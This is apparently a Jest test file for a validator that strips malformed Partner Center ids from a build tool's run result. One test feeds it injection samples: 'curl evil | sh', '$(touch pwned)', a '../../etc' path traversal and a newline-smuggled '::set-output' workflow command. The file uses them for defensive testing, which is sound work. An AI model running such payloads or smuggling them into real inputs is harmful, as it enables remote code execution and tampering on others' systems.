import { describe, expect, it } from '@jest/globals'
import { refuseMalformedIds } from '../../../src/report/result-ids.js'
import { newRunResult, type RunResult } from '../../../src/engine/result.js'

const PRODUCT = 'd12d2ea1-1fe4-4152-8b5e-c7ab22b70c7f'

function resultWith(ids: {
  product?: string
  submission?: string
  pkg?: string
  variant?: string
}): RunResult {
  const result = newRunResult('status', false)
  result.productId = ids.product
  result.partnerCenterUrl = ids.product && `https://partner.microsoft.com/x/${ids.product}`
  if (ids.submission !== undefined) {
    result.submission = {
      id: ids.submission,
      target: 'preview',
      state: 'InProgress',
      substate: 'InDraft',
      action: 'reported',
      steps: []
    }
  }
  result.plans = [
    {
      planId: 'p',
      file: 'p.zip',
      version: '1.0.0',
      state: 'bound',
      packageId: ids.pkg,
      variantId: ids.variant
    }
  ]
  return result
}

describe('refuseMalformedIds', () => {
  it('keeps ids of the known shapes', () => {
    const result = resultWith({
      product: PRODUCT,
      submission: '1152921505697732943',
      pkg: PRODUCT,
      variant: PRODUCT
    })
    expect(refuseMalformedIds(result)).toEqual([])
    expect(result.productId).toBe(PRODUCT)
    expect(result.submission?.id).toBe('1152921505697732943')
    expect(result.plans[0].packageId).toBe(PRODUCT)
    expect(result.plans[0].variantId).toBe(PRODUCT)
  })

  it('removes every id of another shape from the result, and names each', () => {
    const result = resultWith({
      product: 'x"; curl evil | sh; "',
      submission: '1$(touch pwned)',
      pkg: '../../etc',
      variant: 'v\n::set-output name=x::y'
    })
    const refused = refuseMalformedIds(result)
    expect(refused).toHaveLength(4)
    expect(refused[0]).toMatch(/^The product id Partner Center sent "x\\"; curl/)
    expect(refused[1]).toContain('submission id Partner Center sent "1$(touch pwned)"')
    expect(refused[2]).toContain('package id of plan p "../../etc"')
    expect(result.productId).toBeUndefined()
    expect(result.partnerCenterUrl).toBeUndefined()
    expect(result.submission).toBeUndefined()
    expect(result.plans[0].packageId).toBeUndefined()
    expect(refused[3]).toContain('variant id of plan p')
    expect(result.plans[0].variantId).toBeUndefined()
  })
})
